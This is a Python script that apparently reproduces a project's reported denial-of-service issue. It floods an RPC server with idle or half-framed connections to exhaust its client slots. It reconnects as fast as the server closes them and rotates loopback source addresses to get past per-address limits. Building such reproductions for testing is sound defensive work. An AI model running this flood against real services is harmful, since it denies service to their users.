#!/usr/bin/env python3
"""Opens N connections to an RPC server that never say HELLO: half send nothing, half one
byte of a frame header and then nothing (the attack of issue 24: fill --max-clients). With
--reconnect, whenever the server closes one another takes its place at once.

usage: slot_flood.py HOST:PORT N [--sources 127.0.0.2-127.0.0.200] [--reconnect [--rate R]]
                     [--status FILE]

--sources spreads the connections over loopback source addresses (round robin), so that a
per-address limit does not stop them. --rate caps the replacements at R a second (default: as
fast as the server closes them). The file of --status is rewritten every 0.2 s with
"open=N closed=M target=T" (closed: by the server). Runs until killed (SIGTERM).
"""
import argparse
import errno
import os
import ipaddress
import resource
import selectors
import signal
import socket
import sys
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("endpoint")
    ap.add_argument("n", type=int)
    ap.add_argument("--sources", default="")
    ap.add_argument("--status", default="")
    ap.add_argument("--reconnect", action="store_true")
    ap.add_argument("--rate", type=float, default=0.0)
    args = ap.parse_args()
    host, port = args.endpoint.rsplit(":", 1)
    port = int(port)

    # As many descriptors as the hard limit allows (a flood holds one per connection).
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    n = min(args.n, hard - 64)

    sources = [None]
    if args.sources:
        lo, hi = args.sources.split("-")
        lo, hi = ipaddress.IPv4Address(lo), ipaddress.IPv4Address(hi)
        sources = [str(ipaddress.IPv4Address(a)) for a in range(int(lo), int(hi) + 1)]

    sel = selectors.DefaultSelector()
    state = {"open": 0, "closed": 0, "next": 0}
    # Connections to replace, with the time each may be made (--rate spaces them).
    pending = []
    spacing = 1.0 / args.rate if args.rate > 0 else 0.0
    next_at = [0.0]

    def replace(index):
        if not args.reconnect:
            return
        at = max(time.monotonic(), next_at[0])
        next_at[0] = at + spacing
        pending.append((at, index))
    running = [True]
    signal.signal(signal.SIGTERM, lambda *_: running.__setitem__(0, False))

    def connect(index):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        src = sources[state["next"] % len(sources)]
        state["next"] += 1
        if src:
            s.bind((src, 0))
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError as e:
            if e.errno not in (errno.EINPROGRESS,):
                s.close()
                return False
        sel.register(s, selectors.EVENT_WRITE, (index, "connecting"))
        return True

    for i in range(n):
        connect(i)
    last = 0.0
    while running[0]:
        for key, events in sel.select(timeout=0.01 if pending else 0.2):
            s, (index, phase) = key.fileobj, key.data
            if phase == "connecting":
                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                sel.unregister(s)
                if err:
                    s.close()
                    state["closed"] += 1
                    replace(index)
                    continue
                if index % 2:
                    try:
                        # The first byte of a frame header (the command id), then nothing.
                        s.send(b"\x0e")
                    except OSError:
                        pass
                state["open"] += 1
                sel.register(s, selectors.EVENT_READ, (index, "open"))
            else:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    # Closed by the server: another takes its place.
                    sel.unregister(s)
                    s.close()
                    state["open"] -= 1
                    state["closed"] += 1
                    replace(index)
        now = time.monotonic()
        while pending and pending[0][0] <= now:
            connect(pending.pop(0)[1])
        if args.status and now - last >= 0.2:
            last = now
            with open(args.status + ".tmp", "w") as f:
                f.write(f"open={state['open']} closed={state['closed']} target={n}\n")
            os.replace(args.status + ".tmp", args.status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
